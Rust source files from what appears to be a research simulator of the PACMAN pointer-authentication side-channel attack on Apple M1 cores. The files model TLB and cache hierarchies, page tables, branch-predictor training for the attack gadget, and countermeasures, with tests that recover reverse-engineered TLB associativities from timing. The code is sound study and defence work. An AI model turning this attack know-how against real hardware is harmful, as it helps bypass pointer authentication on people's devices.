        let series = data_tlb_sweep(&mut m, &[1, 256, 2048]).unwrap();

        // Stride 1 page: different dTLB sets, no conflict — flat ~60.
        let flat = &series[0];
        for p in &flat.points {
            assert!((55..=70).contains(&p.median), "stride-1 N={} median={}", p.n, p.median);
        }

        // Stride 256 pages: dTLB conflicts from N=12 — 60 → ~95.
        let dtlb = &series[1];
        assert!((55..=70).contains(&dtlb.at(11).unwrap()));
        assert_eq!(dtlb.knee_above(90), Some(12), "finding 1: 12 addresses at 256x16KB");
        assert!((90..=100).contains(&dtlb.at(12).unwrap()));

        // Stride 2048 pages: L2 TLB conflicts from N=23 — ~95 → ~115.
        let l2 = &series[2];
        assert_eq!(l2.knee_above(110), Some(23), "finding 2: 23 addresses at 2048x16KB");
        assert!((110..=125).contains(&l2.at(23).unwrap()));
        // Below 23 it still shows the dTLB-miss plateau (same dTLB set).
        assert!((90..=100).contains(&l2.at(15).unwrap()));
    }

    #[test]
    fn fig5b_cache_then_tlb_jumps() {
        let mut m = experiment_machine();
        let strides = [256 * 128, 256 * PAGE_SIZE, 2048 * PAGE_SIZE];
        let series = cache_tlb_sweep(&mut m, &strides).unwrap();

        // 256 x 128B = 32 KB: L1D conflicts from N=4 (observed effective
        // 4-way L1D, paper footnote 5) — 60 → ~80.
        let l1d = &series[0];
        assert!((55..=70).contains(&l1d.at(3).unwrap()));
        assert_eq!(l1d.knee_above(75), Some(4), "L1D knee at N=4");
        assert!((75..=85).contains(&l1d.at(4).unwrap()));

        // 256 x 16KB: cache + dTLB conflicts — ~80 then ~115 from N=12.
        let dtlb = &series[1];
        assert_eq!(dtlb.knee_above(105), Some(12));
        assert!((108..=122).contains(&dtlb.at(12).unwrap()));

        // 2048 x 16KB: + L2 TLB conflicts — ~135 from N=23.
        let l2 = &series[2];
        assert_eq!(l2.knee_above(125), Some(23));
        assert!((125..=145).contains(&l2.at(23).unwrap()));
    }

    #[test]
    fn fig5c_itlb_drop_then_dtlb_rise() {
        let mut m = experiment_machine();
        let series = itlb_sweep(&mut m, &[32, 256, 2048]).unwrap();

        // Stride 32 pages: N < 4 the entry hides in the iTLB (slow, >110);
        // N >= 4 it migrates into the dTLB (fast, ~80).
        let itlb = &series[0];
        assert!(itlb.at(1).unwrap() > 110, "entry in iTLB must be load-invisible");
        assert_eq!(itlb.knee_below(90), Some(4), "finding 3: 4 branches at 32x16KB");
        assert!((75..=85).contains(&itlb.at(4).unwrap()));
        assert!((75..=85).contains(&itlb.at(30).unwrap()), "stays fast: victims in dTLB");

        // Stride 256 pages: the drop happens, then migrated victims fill
        // the dTLB set and the latency rises again (~115) for large N.
        let dtlb = &series[1];
        assert!(dtlb.at(30).unwrap() > 105, "dTLB refill conflicts must reappear");

        // Stride 2048: eventually L2 TLB conflicts too (~130+).
        let l2 = &series[2];
        assert!(l2.at(30).unwrap() > 120);
    }

    #[test]
    fn figure6_parameters_are_recovered() {
        let mut m = experiment_machine();
        let f = derive_hierarchy(&mut m).unwrap();
        assert_eq!(f.dtlb_ways, 12);
        assert_eq!(f.l2_ways, 23);
        assert_eq!(f.itlb_ways, 4);
        assert!(f.itlb_victims_visible_to_loads);
    }

    #[test]
    fn knee_helpers() {
        let s = SweepSeries {
            label: "t".into(),
            stride: 0,
            points: vec![
                SweepPoint { n: 1, median: 60 },
                SweepPoint { n: 2, median: 60 },
                SweepPoint { n: 3, median: 95 },
            ],
        };
        assert_eq!(s.knee_above(90), Some(3));
        assert_eq!(s.knee_below(70), Some(1));
        assert_eq!(s.at(2), Some(60));
        assert_eq!(s.at(9), None);
    }
}
