//! Machine configuration: core kind, structure parameters, latency model,
//! speculation policy and mitigations.

use crate::cache::CacheParams;
use crate::tlb::TlbParams;

/// Which M1 core cluster the machine models (paper §5: big.LITTLE with
/// four performance and four efficiency cores; the attack targets
/// p-cores).
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub enum CoreKind {
    /// Firestorm-class performance core (the attack platform).
    #[default]
    PCore,
    /// Icestorm-class efficiency core.
    ECore,
}

/// How the core handles a nested branch discovered to be mispredicted
/// while already executing under the shadow of an outer misprediction
/// (paper Figure 3(d)).
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub enum SquashPolicy {
    /// Eagerly squash the inner branch's wrong path and redirect fetch to
    /// the resolved target — the M1 behaviour the instruction PACMAN
    /// gadget requires (§4.2).
    #[default]
    Eager,
    /// Never redirect nested speculative fetch; the resolved target of an
    /// inner branch is simply not fetched. Under this policy the
    /// instruction gadget leaks nothing (the §4.2 constraint, used as an
    /// ablation).
    Lazy,
}

/// Countermeasures from paper §9, applied inside the speculative engine.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub enum Mitigation {
    /// Baseline: no defence.
    #[default]
    None,
    /// PAC-agnostic execution via an implicit `isb` after every `AUT`:
    /// speculation stops before a verified pointer can be transmitted.
    /// Costs a pipeline drain on every architectural `AUT` as well.
    FenceAfterAut,
    /// `AUT` does not execute speculatively at all (stalls until the
    /// speculation shadow resolves).
    NonSpeculativeAut,
    /// STT-style taint tracking with AUT outputs as taint sources (§9's
    /// proposed fix to STT/NDA/Dolma): tainted addresses are never issued
    /// to the memory hierarchy while speculative.
    TaintAutOutputs,
    /// Delay-on-miss invisible speculation extended to TLBs: speculative
    /// accesses that miss in the L1 structures receive no fills.
    DelayOnMiss,
}

/// Which execution engine drives the retire loop.
///
/// Both engines are architecturally identical — same cycles, same
/// microarchitectural side effects, same RNG draws — which the
/// `pacman-ref` conformance harness proves. The interpreter exists as
/// the measurable pre-rewrite baseline for the `perf_exec_engine`
/// bench and as a fallback while bisecting engine bugs.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub enum ExecEngine {
    /// Predecoded basic-block cache: each fetched word is decoded once
    /// into a flat micro-op arena keyed by physical address and
    /// re-dispatched from the arena on re-entry, with PAC results
    /// memoised per (key, pointer, modifier). Self-modifying stores
    /// invalidate affected entries.
    #[default]
    Cached,
    /// The original decode-every-step interpreter, with no PAC memo:
    /// the faithful pre-rewrite baseline.
    Interpreted,
}

/// Typed configuration validation errors, reported by
/// [`MachineConfig::validate`] before any machine state is built.
#[derive(Clone, PartialEq, Debug)]
pub enum ConfigError {
    /// `clock_hz / system_counter_hz` would be zero: either the system
    /// counter frequency is zero or it exceeds the core clock, so every
    /// `CNTPCT` read would divide by zero.
    InvalidTimerRatio {
        /// Configured core clock, Hz.
        clock_hz: u64,
        /// Configured system counter frequency, Hz.
        system_counter_hz: u64,
    },
    /// A zero speculation window cannot model any speculative shadow.
    ZeroSpeculationWindow,
    /// `os_noise` must be a probability in `[0, 1]`.
    InvalidOsNoise(
        /// The rejected value.
        f64,
    ),
}

impl core::fmt::Display for ConfigError {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        match self {
            Self::InvalidTimerRatio { clock_hz, system_counter_hz } => write!(
                f,
                "invalid timer ratio: clock_hz {clock_hz} must be >= system_counter_hz \
                 {system_counter_hz} > 0"
            ),
            Self::ZeroSpeculationWindow => write!(f, "speculation_window must be nonzero"),
            Self::InvalidOsNoise(v) => write!(f, "os_noise {v} outside [0, 1]"),
        }
    }
}

impl std::error::Error for ConfigError {}

/// Deliberately broken squash/recovery behaviours, used by the
/// conformance harness's self-test (`pacman-ref`) to prove the
/// differential oracle detects wrong-path state leaking into committed
/// state. Every knob is off by default; enabling one makes the machine
/// *architecturally wrong on purpose*, so nothing outside the self-test
/// should ever turn one on.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub struct InjectedBugs {
    /// Skip the register-file restore when a speculation shadow closes:
    /// the wrong path's shadow registers (including SP and the compare
    /// flags) are copied back into committed state, modelling a broken
    /// eager squash.
    pub leak_squashed_registers: bool,
    /// Deliver suppressed wrong-path faults architecturally: a fault
    /// that speculation should squash silently is instead raised as a
    /// precise trap at the next retire boundary, modelling broken
    /// speculative-fault suppression.
    pub commit_suppressed_faults: bool,
}

impl InjectedBugs {
    /// Whether any deliberate bug is armed.
    #[must_use]
    pub fn any(self) -> bool {
        self.leak_squashed_registers || self.commit_suppressed_faults
    }
}

/// Cycle costs of the memory hierarchy and measurement path.
///
/// The constants are calibrated so that the *measured* latency plateaus
/// match the paper's Figure 5/7 numbers (~60 for an L1+dTLB hit, ~80 for
/// an L2-cache hit, ~95/110 after a dTLB miss, ~115/130 after an L2 TLB
/// miss); see DESIGN.md for the calibration note.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub struct LatencyModel {
    /// L1 hit latency (data or instruction).
    pub l1_hit: u64,
    /// Additional latency of an L2 cache hit.
    pub l2_hit: u64,
    /// Additional latency of a DRAM access.
    pub dram: u64,
    /// Additional latency of an L2 TLB hit after an L1 TLB miss.
    pub l2_tlb_hit: u64,
    /// Additional latency of a full page-table walk.
    pub walk: u64,
    /// Fixed overhead of the `isb; mrs; isb` measurement bracket
    /// (Figure 4(b)).
    pub measure_overhead: u64,
    /// Pipeline-flush penalty charged when a misprediction is resolved.
    pub mispredict_penalty: u64,
    /// Cost of a serialising barrier (`isb`/`dsb`), also charged by the
    /// [`Mitigation::FenceAfterAut`] implicit fence.
    pub fence: u64,
    /// Base cost of a simple ALU instruction.
    pub alu: u64,
    /// One-way EL0→EL1 transition cost (syscall entry or exit).
    pub syscall_transition: u64,
    /// Uniform measurement noise added to timed accesses: `0..=noise`.
    pub noise: u64,
    /// Injected timing-noise spike added to every timed access (0 =
    /// disabled). Set only by the fault-injection layer to make a
    /// shard's measurements unmistakably corrupted; the spiked attempt
    /// is then discarded and retried, so the field never influences a
    /// surviving aggregate.
    pub fault_spike: u64,
}

impl Default for LatencyModel {
    fn default() -> Self {
        Self {
            l1_hit: 4,
            l2_hit: 20,
            dram: 80,
            l2_tlb_hit: 35,
            walk: 55,
            measure_overhead: 56,
            mispredict_penalty: 14,
            fence: 30,
            alu: 1,
            // One-way EL0<->EL1 transition. Calibrated so a 64-training
            // PAC test costs ~2.7 simulated ms (paper §8.2 measured
            // 2.69 ms/guess, dominated by syscall overhead on macOS).
            syscall_transition: 65_000,
            noise: 2,
            fault_spike: 0,
        }
    }
}

/// Top-level machine configuration.
///
/// `PartialEq` (not `Eq`: `os_noise` is an `f64`) lets the core system
/// pool key recycled machines by configuration.
#[derive(Clone, PartialEq, Debug)]
pub struct MachineConfig {
    /// Which core cluster to model.
    pub core: CoreKind,
    /// RNG seed for the timer-jitter and noise models (deterministic runs
    /// use a fixed seed).
    pub seed: u64,
    /// Maximum instructions executed down a mis-speculated path before the
    /// squash (a stand-in for ROB capacity past the branch).
    pub speculation_window: u32,
    /// Nested-branch squash behaviour.
    pub squash: SquashPolicy,
    /// Active countermeasure.
    pub mitigation: Mitigation,
    /// Latency constants.
    pub latency: LatencyModel,
    /// Nominal core clock in Hz (p-core ≈ 3.2 GHz); used only to convert
    /// cycle counts to wall-clock figures in reports.
    pub clock_hz: u64,
    /// Frequency of the architected system counter (`CNTFRQ_EL0`): 24 MHz
    /// on the M1 (paper Table 1).
    pub system_counter_hz: u64,
    /// Probability (per syscall) that unrelated kernel activity touches a
    /// random dTLB set, modelling OS noise. The paper's experiments ran
    /// under real noise (web browsing, video calls, §8.2) and still
    /// avoided false positives; keep this non-zero for honest accuracy
    /// numbers.
    pub os_noise: f64,
    /// Deliberately broken squash behaviours for the conformance
    /// self-test (all off by default — see [`InjectedBugs`]).
    pub bugs: InjectedBugs,
    /// Enables the retire-loop self-profiler (per-opcode and hot-block
    /// attribution — see `profiler`). Off by default: the profiler adds
    /// two `Instant` reads per retired instruction when on, and a
    /// single predicted branch when off.
    pub profile: bool,
    /// Which execution engine drives the retire loop (architecturally
    /// identical either way — see [`ExecEngine`]).
    pub engine: ExecEngine,
}

impl Default for MachineConfig {
    fn default() -> Self {
        Self {
            core: CoreKind::PCore,
            seed: 0x9E3779B97F4A7C15,
            speculation_window: 48,
            squash: SquashPolicy::Eager,
            mitigation: Mitigation::None,
            latency: LatencyModel::default(),
            clock_hz: 3_200_000_000,
            system_counter_hz: 24_000_000,
            os_noise: 0.02,
            bugs: InjectedBugs::default(),
            profile: false,
            engine: ExecEngine::default(),
        }
    }
}

impl MachineConfig {
    /// Validates the configuration, returning the first violated
    /// constraint as a typed error. `Machine::try_new` calls this before
    /// building any state; `Machine::new` panics on the same conditions.
    pub fn validate(&self) -> Result<(), ConfigError> {
        if self.system_counter_hz == 0 || self.clock_hz < self.system_counter_hz {
            return Err(ConfigError::InvalidTimerRatio {
                clock_hz: self.clock_hz,
                system_counter_hz: self.system_counter_hz,
            });
        }
        if self.speculation_window == 0 {
            return Err(ConfigError::ZeroSpeculationWindow);
        }
        if !(0.0..=1.0).contains(&self.os_noise) {
            return Err(ConfigError::InvalidOsNoise(self.os_noise));
        }
        Ok(())
    }

    /// Cache parameters of the selected core cluster (Table 2).
    pub fn cache_params(&self) -> ClusterCaches {
        ClusterCaches::for_core(self.core)
    }

    /// TLB parameters (identical across clusters in our model; the paper
    /// reverse-engineered the p-core hierarchy, Figure 6).
    pub fn tlb_params(&self) -> ClusterTlbs {
        ClusterTlbs::m1()
    }
}

/// Per-cluster cache parameters.
///
/// `*_reported` carry the architecturally visible configuration-register
/// values (Table 2); `l1d_effective_ways` is the *observed* associativity
/// the paper's footnote 5 notes is half the reported value, and is what
/// the timing model uses.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub struct ClusterCaches {
    /// L1 instruction cache (reported geometry).
    pub l1i: CacheParams,
    /// L1 data cache (reported geometry).
    pub l1d: CacheParams,
    /// Shared L2 cache (reported geometry).
    pub l2: CacheParams,
    /// Observed effective L1D associativity (paper footnote 5: half of
    /// the reported ways).
    pub l1d_effective_ways: usize,
}

impl ClusterCaches {
    /// Table 2 parameters for the given cluster.
    pub fn for_core(core: CoreKind) -> Self {
        match core {
            CoreKind::PCore => Self {
                l1i: CacheParams { ways: 6, sets: 512, line: 64 },
                l1d: CacheParams { ways: 8, sets: 256, line: 64 },
                l2: CacheParams { ways: 12, sets: 8192, line: 128 },
                l1d_effective_ways: 4,
            },
            CoreKind::ECore => Self {
                l1i: CacheParams { ways: 8, sets: 256, line: 64 },
                l1d: CacheParams { ways: 8, sets: 128, line: 64 },
                l2: CacheParams { ways: 16, sets: 2048, line: 128 },
                l1d_effective_ways: 4,
            },
        }
    }
}

/// TLB hierarchy parameters (paper Figure 6).
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub struct ClusterTlbs {
    /// Each per-privilege L1 instruction TLB: 4 ways × 32 sets.
    pub itlb: TlbParams,
    /// The shared L1 data TLB: 12 ways × 256 sets.
    pub dtlb: TlbParams,
    /// The shared L2 TLB: 23 ways × 2048 sets.
    pub l2: TlbParams,
}

impl ClusterTlbs {
    /// The reverse-engineered M1 p-core hierarchy.
    pub fn m1() -> Self {
        Self {
            itlb: TlbParams { ways: 4, sets: 32 },
            dtlb: TlbParams { ways: 12, sets: 256 },
            l2: TlbParams { ways: 23, sets: 2048 },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table2_pcore_sizes() {
        let c = ClusterCaches::for_core(CoreKind::PCore);
        assert_eq!(c.l1i.total_bytes(), 192 * 1024);
        assert_eq!(c.l1d.total_bytes(), 128 * 1024);
        assert_eq!(c.l2.total_bytes(), 12 * 1024 * 1024);
    }

    #[test]
    fn table2_ecore_sizes() {
        let c = ClusterCaches::for_core(CoreKind::ECore);
        assert_eq!(c.l1i.total_bytes(), 128 * 1024);
        assert_eq!(c.l1d.total_bytes(), 64 * 1024);
        assert_eq!(c.l2.total_bytes(), 4 * 1024 * 1024);
    }

    #[test]
    fn figure6_tlb_parameters() {
        let t = ClusterTlbs::m1();
        assert_eq!((t.itlb.ways, t.itlb.sets), (4, 32));
        assert_eq!((t.dtlb.ways, t.dtlb.sets), (12, 256));
        assert_eq!((t.l2.ways, t.l2.sets), (23, 2048));
    }

    #[test]
    fn defaults_are_the_attack_platform() {
        let c = MachineConfig::default();
        assert_eq!(c.core, CoreKind::PCore);
        assert_eq!(c.squash, SquashPolicy::Eager);
        assert_eq!(c.mitigation, Mitigation::None);
        assert_eq!(c.system_counter_hz, 24_000_000);
    }

    #[test]
    fn validate_accepts_defaults_and_rejects_bad_ratios() {
        assert_eq!(MachineConfig::default().validate(), Ok(()));

        let inverted = MachineConfig {
            clock_hz: 24_000_000,
            system_counter_hz: 3_200_000_000,
            ..MachineConfig::default()
        };
        assert_eq!(
            inverted.validate(),
            Err(ConfigError::InvalidTimerRatio {
                clock_hz: 24_000_000,
                system_counter_hz: 3_200_000_000,
            })
        );

        let zero = MachineConfig { system_counter_hz: 0, ..MachineConfig::default() };
        assert!(matches!(zero.validate(), Err(ConfigError::InvalidTimerRatio { .. })));

        let noisy = MachineConfig { os_noise: 1.5, ..MachineConfig::default() };
        assert_eq!(noisy.validate(), Err(ConfigError::InvalidOsNoise(1.5)));

        let err = inverted.validate().unwrap_err().to_string();
        assert!(err.contains("invalid timer ratio"), "display form: {err}");
    }

    #[test]
    fn latency_plateaus_match_paper_shape() {
        // The derived measured latencies must land on the paper's plateaus.
        let l = LatencyModel::default();
        let base = l.measure_overhead + l.l1_hit;
        assert_eq!(base, 60, "L1+dTLB hit plateau");
        assert_eq!(base + l.l2_hit, 80, "L2 cache hit plateau");
        assert_eq!(base + l.l2_tlb_hit, 95, "dTLB miss plateau (Fig 5a)");
        assert_eq!(base + l.l2_hit + l.l2_tlb_hit, 115, "dTLB miss + L2 cache (Fig 5b)");
        assert_eq!(base + l.walk, 115, "L2 TLB miss plateau (Fig 5a)");
        assert_eq!(base + l.l2_hit + l.walk, 135, "L2 TLB miss + L2 cache (Fig 5b)");
    }
}
