//! Page tables: 48-bit VA, 16 KB granule, three translation levels.
//!
//! With a 16 KB granule each table holds 2048 eight-byte entries, so a
//! 47-bit half of the address space translates in three levels
//! (11 + 11 + 11 + 14 bits). Bit 47 selects the root: `TTBR0` for the
//! user half, `TTBR1` for the kernel half — which is also how canonical
//! pointer kinds are derived in `pacman_isa::ptr`.
//!
//! Tables live in simulated physical memory, so a table walk is a real
//! sequence of physical reads.

use pacman_isa::ptr::{PointerKind, VirtualAddress, PAGE_SIZE};

use crate::mem::PhysMemory;
use crate::tlb::TlbEntry;

/// Page permissions.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub struct Perms {
    /// Readable.
    pub read: bool,
    /// Writable.
    pub write: bool,
    /// Executable.
    pub execute: bool,
    /// Accessible from EL0 (user pages). Kernel pages are EL1-only.
    pub user: bool,
}

impl Perms {
    /// Read/write user data page.
    pub fn user_rw() -> Self {
        Self { read: true, write: true, execute: false, user: true }
    }

    /// Read/execute user code page.
    pub fn user_rx() -> Self {
        Self { read: true, write: false, execute: true, user: true }
    }

    /// Read/write/execute user page (the paper's JIT region, §7.3).
    pub fn user_rwx() -> Self {
        Self { read: true, write: true, execute: true, user: true }
    }

    /// Read/write kernel data page.
    pub fn kernel_rw() -> Self {
        Self { read: true, write: true, execute: false, user: false }
    }

    /// Read/execute kernel code page.
    pub fn kernel_rx() -> Self {
        Self { read: true, write: false, execute: true, user: false }
    }

    /// Fully permissive kernel page (test fixtures).
    pub fn kernel_rwx() -> Self {
        Self { read: true, write: true, execute: true, user: false }
    }
}

const VALID: u64 = 1 << 0;
const LEAF: u64 = 1 << 1;
const P_READ: u64 = 1 << 48;
const P_WRITE: u64 = 1 << 49;
const P_EXEC: u64 = 1 << 50;
const P_USER: u64 = 1 << 51;
const ADDR_FIELD: u64 = 0x0000_FFFF_FFFF_C000; // bits [47:14]

fn encode_leaf(pfn: u64, perms: Perms) -> u64 {
    let mut pte = VALID | LEAF | ((pfn * PAGE_SIZE) & ADDR_FIELD);
    if perms.read {
        pte |= P_READ;
    }
    if perms.write {
        pte |= P_WRITE;
    }
    if perms.execute {
        pte |= P_EXEC;
    }
    if perms.user {
        pte |= P_USER;
    }
    pte
}

fn decode_leaf(pte: u64) -> (u64, Perms) {
    let pfn = (pte & ADDR_FIELD) / PAGE_SIZE;
    let perms = Perms {
        read: pte & P_READ != 0,
        write: pte & P_WRITE != 0,
        execute: pte & P_EXEC != 0,
        user: pte & P_USER != 0,
    };
    (pfn, perms)
}

/// Why a translation failed.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum WalkError {
    /// No valid mapping at some level.
    Unmapped,
}

/// The two translation roots plus mapping helpers.
#[derive(Copy, Clone, Debug)]
pub struct PageTables {
    ttbr0: u64,
    ttbr1: u64,
}

impl PageTables {
    /// Allocates empty root tables for both halves.
    pub fn new(mem: &mut PhysMemory) -> Self {
        let ttbr0 = mem.alloc_frame() * PAGE_SIZE;
        let ttbr1 = mem.alloc_frame() * PAGE_SIZE;
        Self { ttbr0, ttbr1 }
    }

    fn root(&self, kind: PointerKind) -> u64 {
        match kind {
            PointerKind::User => self.ttbr0,
            PointerKind::Kernel => self.ttbr1,
        }
    }

    fn indices(va: VirtualAddress) -> [u64; 3] {
        let vpn = va.vpn(); // 34 bits: [33] selects root, [32:22][21:11][10:0]
        [(vpn >> 22) & 0x7FF, (vpn >> 11) & 0x7FF, vpn & 0x7FF]
    }

    /// Maps `va` to physical frame `pfn` with `perms`, allocating
    /// intermediate tables as needed. Remapping an address replaces its
    /// leaf entry.
    pub fn map(&self, mem: &mut PhysMemory, va: VirtualAddress, pfn: u64, perms: Perms) {
        let mut table = self.root(va.kind());
        let idx = Self::indices(va);
        for &i in &idx[..2] {
            let pte_addr = table + i * 8;
            let pte = mem.read_u64(pte_addr);
            if pte & VALID == 0 {
                let next = mem.alloc_frame() * PAGE_SIZE;
                mem.write_u64(pte_addr, VALID | (next & ADDR_FIELD));
                table = next;
            } else {
                table = pte & ADDR_FIELD;
            }
        }
        mem.write_u64(table + idx[2] * 8, encode_leaf(pfn, perms));
    }

    /// Maps `va` to a freshly allocated zeroed frame, returning its pfn.
    pub fn map_fresh(&self, mem: &mut PhysMemory, va: VirtualAddress, perms: Perms) -> u64 {
        let pfn = mem.alloc_frame();
        self.map(mem, va, pfn, perms);
        pfn
    }

    /// Removes the mapping for `va` (leaf only).
    pub fn unmap(&self, mem: &mut PhysMemory, va: VirtualAddress) {
        let mut table = self.root(va.kind());
        let idx = Self::indices(va);
        for &i in &idx[..2] {
            let pte = mem.read_u64(table + i * 8);
            if pte & VALID == 0 {
                return;
            }
            table = pte & ADDR_FIELD;
        }
        mem.write_u64(table + idx[2] * 8, 0);
    }

    /// Walks the tables for `va`. Returns the translation and the number
    /// of physical memory reads performed (the walk's cost driver).
    ///
    /// # Errors
    ///
    /// [`WalkError::Unmapped`] if any level is invalid.
    pub fn walk(&self, mem: &PhysMemory, va: VirtualAddress) -> Result<(TlbEntry, u32), WalkError> {
        let mut table = self.root(va.kind());
        let idx = Self::indices(va);
        let mut reads = 0;
        for &i in &idx[..2] {
            let pte = mem.read_u64(table + i * 8);
            reads += 1;
            if pte & VALID == 0 {
                return Err(WalkError::Unmapped);
            }
            table = pte & ADDR_FIELD;
        }
        let pte = mem.read_u64(table + idx[2] * 8);
        reads += 1;
        if pte & VALID == 0 || pte & LEAF == 0 {
            return Err(WalkError::Unmapped);
        }
        let (pfn, perms) = decode_leaf(pte);
        Ok((TlbEntry { vpn: va.vpn(), pfn, perms }, reads))
    }

    /// Translates `va` to a physical address (walk + page offset); `None`
    /// if unmapped. Convenience for debug accessors.
    pub fn translate(&self, mem: &PhysMemory, va: VirtualAddress) -> Option<u64> {
        let (entry, _) = self.walk(mem, va).ok()?;
        Some(entry.pfn * PAGE_SIZE + va.page_offset())
    }

    /// Serialises the two translation roots (the tables themselves live
    /// in simulated physical memory and travel with its snapshot).
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        w.u64(self.ttbr0);
        w.u64(self.ttbr1);
    }

    /// Restores roots written by [`PageTables::save_state`].
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on truncation.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        self.ttbr0 = r.u64()?;
        self.ttbr1 = r.u64()?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const USER_VA: u64 = 0x0000_7F12_3456_8000;
    const KERNEL_VA: u64 = 0xFFFF_FFF0_0765_4000;

    #[test]
    fn map_then_walk_roundtrips() {
        let mut mem = PhysMemory::new();
        let pt = PageTables::new(&mut mem);
        let va = VirtualAddress::new(USER_VA);
        let pfn = pt.map_fresh(&mut mem, va, Perms::user_rw());
        let (entry, reads) = pt.walk(&mem, va).unwrap();
        assert_eq!(entry.pfn, pfn);
        assert_eq!(entry.vpn, va.vpn());
        assert_eq!(entry.perms, Perms::user_rw());
        assert_eq!(reads, 3, "three-level walk");
    }

    #[test]
    fn user_and_kernel_halves_use_separate_roots() {
        let mut mem = PhysMemory::new();
        let pt = PageTables::new(&mut mem);
        let uva = VirtualAddress::new(USER_VA);
        let kva = VirtualAddress::new(KERNEL_VA);
        let upfn = pt.map_fresh(&mut mem, uva, Perms::user_rw());
        let kpfn = pt.map_fresh(&mut mem, kva, Perms::kernel_rx());
        assert_ne!(upfn, kpfn);
        assert_eq!(pt.walk(&mem, uva).unwrap().0.perms, Perms::user_rw());
        assert_eq!(pt.walk(&mem, kva).unwrap().0.perms, Perms::kernel_rx());
    }

    #[test]
    fn unmapped_addresses_fault() {
        let mut mem = PhysMemory::new();
        let pt = PageTables::new(&mut mem);
        assert_eq!(pt.walk(&mem, VirtualAddress::new(USER_VA)), Err(WalkError::Unmapped));
        // Mapping one page does not map its neighbour.
        pt.map_fresh(&mut mem, VirtualAddress::new(USER_VA), Perms::user_rw());
        assert!(pt.walk(&mem, VirtualAddress::new(USER_VA + PAGE_SIZE)).is_err());
    }

    #[test]
    fn unmap_removes_leaf() {
        let mut mem = PhysMemory::new();
        let pt = PageTables::new(&mut mem);
        let va = VirtualAddress::new(USER_VA);
        pt.map_fresh(&mut mem, va, Perms::user_rw());
        pt.unmap(&mut mem, va);
        assert!(pt.walk(&mem, va).is_err());
    }

    #[test]
    fn translate_applies_page_offset() {
        let mut mem = PhysMemory::new();
        let pt = PageTables::new(&mut mem);
        let va = VirtualAddress::new(USER_VA + 0x123);
        let pfn = pt.map_fresh(&mut mem, VirtualAddress::new(USER_VA), Perms::user_rw());
        let pa = pt.translate(&mem, va).unwrap();
        assert_eq!(pa, pfn * PAGE_SIZE + (USER_VA + 0x123) % PAGE_SIZE);
    }

    #[test]
    fn remap_replaces() {
        let mut mem = PhysMemory::new();
        let pt = PageTables::new(&mut mem);
        let va = VirtualAddress::new(KERNEL_VA);
        pt.map_fresh(&mut mem, va, Perms::kernel_rw());
        let pfn2 = mem.alloc_frame();
        pt.map(&mut mem, va, pfn2, Perms::kernel_rx());
        let (entry, _) = pt.walk(&mem, va).unwrap();
        assert_eq!(entry.pfn, pfn2);
        assert_eq!(entry.perms, Perms::kernel_rx());
    }

    #[test]
    fn pte_codec_roundtrips() {
        for perms in [Perms::user_rw(), Perms::user_rx(), Perms::kernel_rw(), Perms::kernel_rwx()] {
            let (pfn, p) = decode_leaf(encode_leaf(12345, perms));
            assert_eq!(pfn, 12345);
            assert_eq!(p, perms);
        }
    }

    #[test]
    fn distant_pages_share_intermediate_tables_lazily() {
        let mut mem = PhysMemory::new();
        let pt = PageTables::new(&mut mem);
        let before = mem.frame_count();
        // Two pages in the same 32 MB region share L2/L3 tables.
        pt.map_fresh(&mut mem, VirtualAddress::new(USER_VA), Perms::user_rw());
        pt.map_fresh(&mut mem, VirtualAddress::new(USER_VA + PAGE_SIZE), Perms::user_rw());
        let after = mem.frame_count();
        // 2 intermediate tables + 2 data frames.
        assert_eq!(after - before, 4);
    }
}
