//! Branch prediction: a bimodal conditional predictor and a tagged BTB.
//!
//! The PACMAN attack trains both (paper §4.4): the conditional predictor
//! so the gadget's outer branch mis-speculates into the gadget body, and
//! the BTB so the inner indirect branch initially fetches a known target,
//! letting the eager squash expose the verified pointer (Figure 3(d)).

use std::collections::HashMap;

use crate::fasthash::FxBuild;

/// A 2-bit saturating counter.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
struct Counter2(u8);

impl Counter2 {
    const WEAKLY_NOT_TAKEN: Counter2 = Counter2(1);

    fn predict_taken(self) -> bool {
        self.0 >= 2
    }

    fn train(&mut self, taken: bool) {
        if taken {
            self.0 = (self.0 + 1).min(3);
        } else {
            self.0 = self.0.saturating_sub(1);
        }
    }
}

/// Bimodal (per-PC 2-bit counter) conditional branch predictor.
#[derive(Clone, Debug, Default)]
pub struct Bimodal {
    table: HashMap<u64, Counter2, FxBuild>,
}

impl Bimodal {
    /// Creates an empty predictor (unknown branches predict not-taken).
    pub fn new() -> Self {
        Self::default()
    }

    /// Predicted direction for the branch at `pc`.
    pub fn predict(&self, pc: u64) -> bool {
        self.table.get(&pc).copied().unwrap_or(Counter2::WEAKLY_NOT_TAKEN).predict_taken()
    }

    /// Trains the counter with the resolved direction.
    pub fn train(&mut self, pc: u64, taken: bool) {
        self.table.entry(pc).or_insert(Counter2::WEAKLY_NOT_TAKEN).train(taken);
    }

    /// Forgets everything (used between independent experiments).
    pub fn reset(&mut self) {
        self.table.clear();
    }

    /// Serialises counters as (pc, state) pairs sorted by pc, so the
    /// encoding is independent of `HashMap` iteration order.
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        let mut pairs: Vec<(u64, u8)> = self.table.iter().map(|(&pc, &c)| (pc, c.0)).collect();
        pairs.sort_unstable();
        w.usize(pairs.len());
        for (pc, state) in pairs {
            w.u64(pc);
            w.u8(state);
        }
